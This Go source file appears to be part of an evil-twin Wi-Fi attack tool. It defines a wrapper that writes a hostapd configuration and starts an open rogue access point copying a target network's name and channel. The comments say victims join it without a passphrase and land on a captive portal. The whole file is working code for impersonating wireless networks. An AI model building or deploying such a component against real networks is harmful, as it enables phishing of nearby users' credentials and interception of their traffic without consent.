package services

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
)

// Hostapd runs the rogue access point daemon mimicking the target network.
// The AP is deliberately open: victims associate without a passphrase and
// land on the captive portal.
type Hostapd struct {
	path    string
	confDir string
	iface   string
	essid   string
	channel int

	daemon
	confFile string
}

// NewHostapd builds the AP daemon wrapper. path is the hostapd binary;
// confDir receives the generated configuration file.
func NewHostapd(path, confDir, iface, essid string, channel int) *Hostapd {
	if path == "" {
		path = "hostapd"
	}
	return &Hostapd{
		path:    path,
		confDir: confDir,
		iface:   iface,
		essid:   essid,
		channel: channel,
	}
}

func (h *Hostapd) Name() string { return "hostapd" }

// SetTarget points the daemon at the attack target. Must be called before
// Start when the wrapper is built without target data.
func (h *Hostapd) SetTarget(iface, essid string, channel int) {
	h.iface = iface
	h.essid = essid
	h.channel = channel
}

func (h *Hostapd) Start() error {
	if h.running() {
		return fmt.Errorf("hostapd already running on %s", h.iface)
	}
	if err := os.MkdirAll(h.confDir, 0o755); err != nil {
		return fmt.Errorf("creating hostapd config directory: %w", err)
	}

	conf := fmt.Sprintf(`interface=%s
driver=nl80211
ssid=%s
hw_mode=g
channel=%d
macaddr_acl=0
ignore_broadcast_ssid=0
auth_algs=1
wpa=0
`, h.iface, h.essid, h.channel)

	h.confFile = filepath.Join(h.confDir, "hostapd.conf")
	if err := os.WriteFile(h.confFile, []byte(conf), 0o644); err != nil {
		return fmt.Errorf("writing hostapd config: %w", err)
	}

	if err := h.start(exec.Command(h.path, h.confFile)); err != nil {
		return fmt.Errorf("starting hostapd: %w", err)
	}
	return nil
}

func (h *Hostapd) Stop() error {
	err := h.stop()
	if h.confFile != "" {
		os.Remove(h.confFile)
		h.confFile = ""
	}
	return err
}

func (h *Hostapd) IsRunning() bool { return h.running() }
